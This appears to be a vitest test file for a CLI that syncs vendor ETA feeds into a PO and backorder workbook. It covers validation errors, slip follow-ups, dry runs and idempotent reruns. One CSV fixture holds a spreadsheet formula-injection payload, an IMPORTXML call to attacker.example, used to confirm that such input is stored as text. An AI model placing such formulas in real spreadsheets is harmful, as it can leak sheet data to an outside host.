/**
 * Vendor ETAs in, through the CLI: feeds in CSV and JSON, every row validated (vendor, feed row,
 * field, value, reason), good rows applied to the PO's sync columns and to backorders whose date comes
 * from the PO (never a Manual one), slips past the threshold raising a follow-up and a Calls entry
 * with the vendor as source, a second run with the same data writing nothing, formula payloads stored
 * as text, and --dry-run writing nothing.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { medianSlip } from '../../../shared/commands/apply-etas';
import type { IsoDate } from '../../../shared/primitives/dates';
import { readFeed, type VendorFeed } from '../../../shared/vendor-etas';
import { poLine } from '../../support/build';
import { cli, tempDir } from '../../support/cli';
import { importShop, writeFeeds } from '../../support/shop';

const feed = (p: Partial<VendorFeed> = {}): VendorFeed => ({
  vendor: 'Summit',
  source: { file: 'summit.csv' },
  format: 'csv',
  mapping: { po: 'PO', line: 'Line', eta: 'ETA', note: 'Note' },
  dateFormats: ['dd/MM/yyyy'],
  ...p,
});
const POS = [
  poLine({ po: 'PO-1', sku: 'A', qty: 10 }),
  poLine({ po: 'PO-1', line: 2, sku: 'B', qty: 5 }),
  poLine({ po: 'PO-2', sku: 'A', qty: 3, qtyReceived: 3, status: 'Received' }),
];
const TODAY = '2026-11-23' as IsoDate;

describe('readFeed: every bad row named, nothing guessed', () => {
  it.each([
    ['an unknown PO', { PO: 'PO-9', Line: '1', ETA: '01/12/2026' }, 'PO', 'no such PO in the workbook'],
    [
      'an impossible date',
      { PO: 'PO-1', Line: '1', ETA: '31/02/2026' },
      'ETA',
      "not a date in the vendor's format (dd/MM/yyyy)",
    ],
    [
      'a date in the past',
      { PO: 'PO-1', Line: '1', ETA: '01/11/2026' },
      'ETA',
      'ETA 2026-11-01 is in the past (today is 2026-11-23)',
    ],
    ['a line the PO lacks', { PO: 'PO-1', Line: '7', ETA: '01/12/2026' }, 'Line', 'PO PO-1 has no such line'],
    [
      'a closed PO line',
      { PO: 'PO-2', Line: '1', ETA: '01/12/2026' },
      'PO',
      'PO PO-2 line 1 is closed (Received)',
    ],
  ])('%s', (_, record, field, reason) => {
    const r = readFeed(feed(), [record], ['PO', 'Line', 'ETA', 'Note'], POS, TODAY, 2);
    expect(r.etas).toEqual([]);
    expect(r.problems).toEqual([
      { vendor: 'Summit', row: 2, field, value: record[field as keyof typeof record], reason },
    ]);
  });

  it('reports a missing ETA column, a negative quantity, and every copy of a duplicated line (10,000 rows)', () => {
    expect(readFeed(feed(), [{ PO: 'PO-1' }], ['PO', 'Line'], POS, TODAY, 2).problems[0]?.reason).toBe(
      'the feed has no column "ETA" (columns: PO, Line)',
    );
    const withQty = feed({ mapping: { po: 'PO', line: 'Line', eta: 'ETA', qty: 'Qty' } });
    expect(
      readFeed(
        withQty,
        [{ PO: 'PO-1', Line: '1', ETA: '01/12/2026', Qty: '-4' }],
        ['PO', 'Line', 'ETA', 'Qty'],
        POS,
        TODAY,
        2,
      ).problems[0],
    ).toMatchObject({ field: 'Qty', reason: 'must be a whole number ≥ 0' });
    const many = Array.from({ length: 10_000 }, () => ({ PO: 'PO-1', Line: '1', ETA: '01/12/2026' }));
    const r = readFeed(feed(), many, ['PO', 'Line', 'ETA'], POS, TODAY, 2);
    expect(r.etas).toEqual([]);
    expect(r.problems).toHaveLength(10_000);
    expect(r.problems[0]?.reason).toBe('PO PO-1 line 1 appears 10000 times in this feed; none applied');
  });
});

async function shop(dir: string) {
  const w = ['--workbook', 'w.json'];
  await importShop(dir, w, {
    inventory: 'SKU,Warehouse,OnHand\nA,MAIN,0\nB,MAIN,0\n',
    orders:
      'OrderID,Line,OrderDate,Customer,SalesRep,SKU,Qty\nSO-1,1,2026-11-01,Harbor Builders,Dana,A,4\nSO-2,1,2026-11-02,Oakridge,Sam,A,2\nSO-3,1,2026-11-03,Keystone,Jo,B,1\n',
    pos: 'PO,Line,Vendor,SKU,Qty,Warehouse,PromisedDate\nPO-0,1,Summit,A,1,MAIN,2026-11-10\nPO-1,1,Summit,A,10,MAIN,2026-11-28\nPO-1,2,Summit,B,5,MAIN,2026-11-28\n',
  });
  await cli(dir, 'do', 'receive', ...w, '--po', 'PO-0', '--today', '2026-11-15'); // Summit came 5 days late
  await cli(dir, 'do', 'allocate', ...w);
  await cli(
    dir,
    'do',
    'reschedule',
    ...w,
    '--backorder',
    'BO-000002',
    '--date',
    '2026-12-20',
    '--reason',
    'customer asked',
  );
  writeFeeds(dir, [
    {
      vendor: 'Summit',
      source: { file: 'summit.csv' },
      mapping: { po: 'PO', line: 'Line', eta: 'ETA', note: 'Note' },
      dateFormats: ['dd/MM/yyyy'],
    },
    {
      vendor: 'Cascade',
      source: { file: 'cascade.json' },
      format: 'json',
      mapping: { po: 'order', sku: 'item', eta: 'eta' },
    },
  ]);
  // BOM, CRLF, ';' delimiter, a quoted newline, and a formula payload in a note.
  writeFileSync(
    join(dir, 'summit.csv'),
    '\uFEFFPO;Line;ETA;Note\r\nPO-1;1;09/12/2026;"=IMPORTXML(""http://attacker.example"",""//a"")"\r\nPO-1;2;24/11/2026;"two\r\nlines"\r\n',
  );
  writeFileSync(
    join(dir, 'cascade.json'),
    JSON.stringify([{ order: 'PO-77', item: 'X', eta: '2026-12-01' }]),
  );
  return w;
}

describe('backorder-desk sync', () => {
  it('applies good rows, propagates to PO-dated backorders, raises follow-ups on slips, and reports the rest', async () => {
    const dir = tempDir();
    const w = await shop(dir);
    const dry = JSON.parse(
      (await cli(dir, 'sync', ...w, '--feeds', 'feeds.json', '--dry-run', '--json')).stdout,
    );
    expect(dry).toMatchObject({ applied: false, etas: 2 });
    const before = readFileSync(join(dir, 'w.json'), 'utf8');
    const run = JSON.parse((await cli(dir, 'sync', ...w, '--feeds', 'feeds.json', '--json')).stdout);
    expect(before).not.toBe(readFileSync(join(dir, 'w.json'), 'utf8'));
    expect(run).toMatchObject({
      applied: true,
      etas: 2,
      problems: [
        { vendor: 'Cascade', row: 1, field: 'order', value: 'PO-77', reason: 'no such PO in the workbook' },
      ],
    });
    const pos = JSON.parse((await cli(dir, 'export', ...w, '--tab', 'POs', '--format', 'json')).stdout);
    expect(pos.map((p: Record<string, unknown>) => [p.VendorETA, p.PredictedETA, p.ETASource])).toEqual([
      ['', '', ''],
      ['2026-12-09', '2026-12-14', 'Summit feed: =IMPORTXML("http://attacker.example","//a")'], // + Summit's median slip, 5 days
      ['2026-11-24', '2026-11-29', 'Summit feed: two\r\nlines'],
    ]);
    const history = JSON.parse(
      (await cli(dir, 'export', ...w, '--tab', 'ETA History', '--format', 'json')).stdout,
    );
    expect(
      history.map((h: Record<string, unknown>) => [h.HistoryID, h.PO, h.Line, h.PreviousETA, h.ETA]),
    ).toEqual([
      ['EH-000001', 'PO-1', 1, '2026-11-28', '2026-12-09'],
      ['EH-000002', 'PO-1', 2, '2026-11-28', '2026-11-24'],
    ]);
    const bos = JSON.parse(
      (await cli(dir, 'export', ...w, '--tab', 'Backorders', '--format', 'json')).stdout,
    );
    expect(
      bos.map((b: Record<string, unknown>) => [
        b.BackorderID,
        b.ExpectedDate,
        b.ExpectedSource,
        b.NextFollowUp,
      ]),
    ).toEqual([
      ['BO-000001', '2026-12-09', 'PO', '2026-11-23'], // slipped 11 days: follow up today
      ['BO-000002', '2026-12-20', 'Manual', '2026-12-20'], // a rep's date is never overwritten
      ['BO-000003', '2026-11-24', 'PO', ''], // came earlier: no follow-up
    ]);
    const calls = JSON.parse((await cli(dir, 'export', ...w, '--tab', 'Calls', '--format', 'json')).stdout);
    expect(calls.at(-1)).toMatchObject({
      BackorderID: 'BO-000001',
      Rep: 'Dana',
      Source: 'Summit',
      Summary: expect.stringContaining(
        'Rescheduled: Summit moved PO-1 from 2026-11-28 to 2026-12-09 (11 days later)',
      ),
    });
    const log = JSON.parse((await cli(dir, 'export', ...w, '--tab', 'Log', '--format', 'json')).stdout);
    expect(log.at(-1)).toMatchObject({
      Action: 'sync',
      Summary: expect.stringContaining('Cascade row 1 order "PO-77": no such PO in the workbook'),
    });
    const aging = JSON.parse(
      (await cli(dir, 'export', ...w, '--tab', 'Aging', '--format', 'json')).stdout,
    ) as string[][];
    const issues = aging.findIndex((r) => r[0] === 'Sync issues');
    expect(aging[issues + 2]?.slice(0, 5)).toEqual([
      'Cascade',
      1,
      'order',
      'PO-77',
      'no such PO in the workbook',
    ]);
    expect(aging.find((r) => r[0] === 'Open backorders')?.[1]).toBe(3);
    const file = JSON.parse(readFileSync(join(dir, 'w.json'), 'utf8'));
    expect(
      file.sheets.find((s: { properties: { title: string } }) => s.properties.title === 'POs').formulas,
    ).toEqual({});

    const unchanged = readFileSync(join(dir, 'w.json'), 'utf8');
    expect(
      JSON.parse((await cli(dir, 'sync', ...w, '--feeds', 'feeds.json', '--json')).stdout),
    ).toMatchObject({ applied: false });
    expect(readFileSync(join(dir, 'w.json'), 'utf8')).toBe(unchanged);
    expect((await cli(dir, 'check', ...w)).code).toBe(0);
  });

  it('refuses a bad configuration with the field named', async () => {
    const dir = tempDir();
    writeFileSync(
      join(dir, 'bad.json'),
      JSON.stringify({
        vendors: [{ vendor: 'X', source: { url: 'ftp://x' }, format: 'xml', mapping: { po: 'PO' } }],
      }),
    );
    const r = await cli(dir, 'sync', '--workbook', 'w.json', '--create', '--feeds', 'bad.json');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('bad.json is not a valid sync configuration:');
    expect(r.stderr).toMatch(/vendors\.0\.format/);
    expect(r.stderr).toMatch(/vendors\.0\.mapping\.eta/);
  });
});

describe('medianSlip', () => {
  it.each([
    [[], null],
    [[3, 9, 1], 3],
    [[2, 4], 3],
    [[-2, 0, 7, 7], 4],
  ])('%j → %s', (slips, want) => expect(medianSlip(slips)).toBe(want));
});
